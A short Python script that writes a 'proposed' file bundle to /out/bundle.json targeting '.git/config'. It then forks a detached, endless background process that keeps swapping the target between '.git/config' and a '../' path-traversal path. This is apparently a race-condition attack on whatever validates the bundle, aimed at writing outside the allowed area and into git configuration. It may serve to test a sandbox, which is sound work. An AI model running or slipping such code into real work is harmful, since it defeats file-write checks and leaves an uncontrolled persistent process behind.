import json
import os


def write(path):
    bundle = {"format": 1, "status": "proposed", "files": {path: {"text": "x"}}}
    with open("/out/bundle.json", "w") as file:
        file.write(json.dumps(bundle))


write(".git/config")
if os.fork() == 0:
    os.setsid()
    while True:
        write("../a-longer-path-than-the-other")
        write(".git/config")
